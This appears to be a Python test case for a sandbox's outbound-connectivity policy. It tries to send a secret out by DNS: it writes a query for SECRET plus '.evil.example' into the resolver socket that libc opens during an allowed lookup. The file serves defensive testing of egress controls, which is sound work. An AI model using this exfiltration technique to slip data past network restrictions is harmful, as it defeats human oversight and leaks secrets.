# class: network
# rule: outbound_connectivity
# policy: lookups.yaml
# success: during a lookup of an allowed address's name, another thread asks a question of its own
#   by libc's socket
# proof: query
# needs: resolver python>=3.11.4
# quiet: no other thread has an fd for what libc opens in a lookup
# alerts: true
# timeout: 40
import os
import socket

from attack import SECRET, attempt, beside_lookups, is_asking, question


@attempt
def ask():
    asked = question(SECRET + ".evil.example")
    found = socket.getaddrinfo("api.allowed.example", 443)[0][4]
    return beside_lookups(
        is_asking,
        lambda fd: os.write(fd, asked) == len(asked),
        lambda: socket.getnameinfo(found, 0),
        stays=True,
    )
